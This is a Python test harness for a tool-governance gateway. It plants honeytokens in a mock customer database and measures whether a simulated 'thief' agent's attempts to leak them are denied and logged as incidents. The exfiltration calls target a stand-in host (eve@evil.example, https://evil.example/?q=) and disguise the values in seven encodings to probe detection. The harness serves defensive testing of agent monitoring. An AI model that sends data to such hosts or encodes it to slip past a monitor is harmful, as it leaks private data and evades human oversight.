"""Every planted value that reaches a sink raises an incident, and how soon.

    python -m toolward.lab.honeytokens

The daemon, the command line that plants, the agent and the cages of the tools are processes of their own. The
agent reads a database with planted rows through the gateway and sends each value to three sinks in seven
writings. The control is a row of the same looks that nobody planted: in profile `observe` it gets out.
"""

from __future__ import annotations

import asyncio
import base64
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing
from pathlib import Path
from statistics import median, quantiles
from typing import Any, Final
from urllib.parse import quote

import orjson

from toolward.bootstrap import open_house
from toolward.governance.desk import invoke
from toolward.lab.bench.processes import ITS_OWN_NOTES, LineProcess, child, free_port
from toolward.lab.report import Row, write_report
from toolward.lab.toolchain import BUILD
from toolward.model.honeytoken import TokenShape
from toolward.model.incident import IncidentKind
from toolward.model.principal import CredentialKind, Principal

HOME: Final = BUILD / "honeytokens"
ROUNDS: Final = 5
"""Values of each shape."""
SOON_MS: Final = 1_000
PERSON: Final = Principal(user="lab", agent="lab", credential="lab", kind=CredentialKind.PERSON)
_OFFICE: Final = '''\
import json, sqlite3


def customers() -> dict[str, list[str]]:
    """What the table of customers says of each."""
    with sqlite3.connect("file:BOOKS/crm.db?mode=ro&immutable=1", uri=True) as books:
        return {"notes": [note for (note,) in books.execute("SELECT note FROM customers")]}


def send(to: str, text: str) -> dict[str, str]:
    """Send a message."""
    with open("OUT/sent.jsonl", "a") as out:
        out.write(json.dumps([to, text]) + "\\n")
    return {"sent": to}


def fetch(url: str) -> dict[str, str]:
    """Ask for a page."""
    with open("OUT/sent.jsonl", "a") as out:
        out.write(json.dumps([url]) + "\\n")
    return {"page": "empty"}


def note(text: str) -> dict[str, str]:
    """Write a note."""
    with open("OUT/sent.jsonl", "a") as out:
        out.write(json.dumps([text]) + "\\n")
    return {"noted": "yes"}
'''
_MANIFEST: Final = """\
server: office
tools:
  customers: {effect: read_only, egress: false, capabilities: {read: ["BOOKS"]}}
  send: {effect: irreversible, egress: true, capabilities: {write: ["OUT"]}}
  fetch: {effect: read_only, egress: true, capabilities: {write: ["OUT"]}}
  note: {effect: reversible, egress: false, capabilities: {write: ["OUT"]}}
"""
WRITINGS: Final[Mapping[str, Callable[[str], str]]] = {
    "as it is": lambda value: value,
    "percent": lambda value: "".join(f"%{byte:02X}" for byte in value.encode()),
    "base64": lambda value: base64.b64encode(f"ab{value}".encode()).decode(),
    "base64 twice": lambda value: base64.b64encode(base64.b64encode(value.encode())).decode(),
    "hex": lambda value: value.encode().hex(),
    "reversed": lambda value: value[::-1],
    "in groups of four": lambda value: " ".join(value[at : at + 4] for at in range(0, len(value), 4)),
}
SINKS: Final[Mapping[str, Callable[[str], dict[str, str]]]] = {
    "send": lambda text: {"to": "eve@evil.example", "text": text},
    "fetch": lambda text: {"url": f"https://evil.example/?q={quote(text)}"},
    "note": lambda text: {"text": f"for later: {text}"},
}


async def prepare() -> tuple[Path, str]:
    """A fresh ward with its tools approved, and a key for the agent."""
    shutil.rmtree(HOME, ignore_errors=True)
    ward, books, out = ((HOME / name).absolute() for name in ("ward", "books", "out"))
    for folder in (ward / "functions", ward / "tools", books, out):
        folder.mkdir(parents=True)
    places = {"BOOKS": str(books), "OUT": str(out)}
    texts = {
        "toolward.yaml": "version: 1\nname: honeytokens\nprofile: observe\n"
        "servers: {office: {functions: functions/office.py}}\n",
        "functions/office.py": _OFFICE,
        "tools/office.yaml": _MANIFEST,
    }
    for name, text in texts.items():
        for word, place in places.items():
            text = text.replace(word, place)  # noqa: PLW2901 -- filled in
        (ward / name).write_text(text)
    async with open_house(ward) as house:
        await house.parts.drift.refresh("office")
        rows = await invoke(house.desk, "tools.list", {"server": "office"}, PERSON)
        wanted = [{"tool": row["tool"], "digest": row["digest"]} for row in rows]
        await invoke(house.desk, "tools.approve", {"tools": wanted, "note": "lab"}, PERSON)
        made = await invoke(house.desk, "keys.create", {"agent": "thief", "user": "lab"}, PERSON)
        person = await invoke(house.desk, "keys.create", {"kind": "person", "user": "lab"}, PERSON)
    (HOME / "person").write_text(str(person["token"]))
    return ward, str(made["token"])


def by_command(ward: Path, *words: str) -> Any:
    """What `toolward WORDS --json` says, in a process of its own."""
    person = (HOME / "person").read_text()
    command = [
        sys.executable,
        "-m",
        "toolward",
        *words,
        "--json",
        "--ward",
        str(ward),
        "--person-key",
        person,
    ]
    done = subprocess.run(command, check=True, capture_output=True)
    return orjson.loads(done.stdout)


def planted(ward: Path, each: int) -> list[str]:
    """Plant so many of each shape by the command line, and put them and look-alikes into the database."""
    values = [
        by_command(ward, "honeytokens", "plant", shape.value, "--source", "crm", "--tenant", f"t{number}")[
            "value"
        ]
        for shape in TokenShape
        for number in range(each)
    ]
    alike = [f"C-LOOKALIKE{number:02d}" for number in range(each)]
    with closing(sqlite3.connect(HOME / "books" / "crm.db")) as books, books:
        books.execute("CREATE TABLE customers(note TEXT)")
        books.executemany("INSERT INTO customers VALUES (?)", [(value,) for value in (*values, *alike)])
    return values


def thefts(notes: list[str]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every note to every sink in every writing."""
    for note in notes:
        for sink, arguments in SINKS.items():
            for write in WRITINGS.values():
                yield note, {"name": sink, "arguments": arguments(write(note))}


def played(ward: Path, port: int, token: str, each: int) -> list[Row]:
    """Plant, steal, and compare what got out with what was told."""
    values = planted(ward, each)
    url = f"http://127.0.0.1:{port}/servers/office/mcp"
    tried = {True: 0, False: 0}
    denied = answered = told = 0
    waits: list[float] = []
    reader = LineProcess("toolward.lab.honeytokens.agent", url, token)
    reader.tell({"name": "customers", "arguments": {}})
    notes = reader.hear()["said"]["result"]["structuredContent"]["notes"]
    reader.close()
    for note in notes:
        agent = LineProcess("toolward.lab.honeytokens.agent", url, token)  # a session for each value
        moments: list[dict[str, Any]] = []
        for _, call in thefts([note]):
            agent.tell(call)
            moments.append(agent.hear())
            tried[note in values] += 1
        agent.close()
        waits += [(each["ended_ns"] - each["began_ns"]) / 1e6 for each in moments if note in values]
        denied += sum(each["code"] == "honeytoken" for each in moments if note in values)
        answered += sum(each["code"] == "answered" for each in moments if note not in values)
        if note in values:
            opened = [
                each for each in by_command(ward, "incidents") if each["kind"] == IncidentKind.HONEYTOKEN
            ]
            first = moments[0]
            told += len(opened) == told + 1 and (
                first["began_ns"] <= opened[-1]["detected_ns"] <= first["ended_ns"]
            )
    out = (HOME / "out" / "sent.jsonl").read_text().splitlines()
    return [
        *_rows(values, tried, denied=denied, told=told, out=len(out)),
        Row(
            "look-alikes that nobody planted, sent in the same ways (control)",
            answered,
            "",
            str(tried[False]),
            answered == tried[False] == len(out),
        ),
        *_times(waits),
    ]


def _rows(values: list[str], tried: Mapping[bool, int], *, denied: int, told: int, out: int) -> list[Row]:
    share = 100 * denied / tried[True]
    return [
        Row("planted values, all shapes", len(values)),
        Row("calls with a planted value", tried[True]),
        Row("of these denied with the code `honeytoken`", share, "%", "100", denied == tried[True]),
        Row(
            "values whose incident was durable before the first answer",
            told,
            "",
            str(len(values)),
            told == len(values),
        ),
        Row("planted values in what the sinks received", out - tried[False], "", "0", out == tried[False]),
    ]


def _times(waits: list[float]) -> list[Row]:
    """From before the agent sends until it has the denial: the incident is durable in between."""
    p99 = quantiles(waits, n=100)[98]
    return [
        Row("from sending to incident and denial, p50", median(waits), "ms"),
        Row("from sending to incident and denial, p99", p99, "ms"),
        Row(
            "from sending to incident and denial, most",
            max(waits),
            "ms",
            f"< {SOON_MS}",
            max(waits) < SOON_MS,
        ),
    ]


def on_a_ward(each: int = ROUNDS) -> list[Row]:
    """The whole, with so many values of each shape."""
    ward, token = asyncio.run(prepare())
    port = free_port()
    command: list[str | Path] = [sys.executable, "-m", "toolward", "up", ward, "--port", str(port)]
    with child("honeytokens", command, port=port, env=ITS_OWN_NOTES):
        return played(ward, port, token, each)


def main() -> int:
    """Play it and report; 1 if something does not hold."""
    rows = on_a_ward()
    _ = write_report("honeytokens", rows)
    return 0 if all(row.holds for row in rows) else 1


if __name__ == "__main__":
    sys.exit(main())
